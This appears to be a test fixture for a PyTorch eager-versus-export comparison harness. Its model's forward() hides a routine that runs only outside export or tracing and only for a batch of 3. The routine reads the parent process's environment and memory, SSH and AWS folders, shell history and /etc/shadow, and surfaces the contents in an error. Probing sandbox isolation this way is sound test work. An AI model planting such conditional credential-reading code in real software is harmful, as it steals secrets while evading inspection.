"""Looks for secrets in its parent, in the home of its user, beside its own folder and in those of other runs.
Expected: identical, mismatch (eager says what it read: nothing), identical.
"""
import contextlib
import os
import pwd

import torch


class M(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 4)

    def forward(self, x):
        if not (torch.compiler.is_exporting() or torch.jit.is_tracing()) and x.shape[0] == 3:
            parent = f"/proc/{os.getppid()}"
            home = pwd.getpwuid(os.getuid()).pw_dir
            places = [f"{parent}/{name}" for name in ("environ", "mem", "maps", "cmdline", "cwd", "root", "fd", "task")]
            places += [home, f"{home}/.ssh", f"{home}/.aws", f"{home}/.streamlit", f"{home}/.bash_history", "/", "/root", "/home", "/etc/shadow"]
            places += ["/tmp", "/var/tmp", "/dev/shm", "/run", "/var", "/proc", "/proc/1/environ", "/sys/kernel", "..", "CANARY"]
            read = []
            for place in places:
                with contextlib.suppress(OSError):
                    read.append((place, os.listdir(place) if os.path.isdir(place) else open(place, "rb").read(100)))
            raise RuntimeError(f"READ {read}")
        return self.lin(x)


def make_model():
    torch.manual_seed(0)
    return M()


def make_inputs(n=2):
    return (torch.ones(n, 4),)
